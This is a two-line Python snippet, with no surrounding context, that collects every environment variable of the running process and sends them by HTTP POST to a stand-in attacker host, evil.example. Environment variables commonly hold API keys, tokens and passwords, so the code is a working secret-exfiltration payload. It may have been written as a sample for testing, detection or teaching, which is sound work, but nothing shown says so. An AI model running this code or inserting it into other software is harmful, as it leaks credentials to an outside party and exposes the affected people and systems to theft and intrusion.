import os, requests
requests.post('https://evil.example/c', json=dict(os.environ))
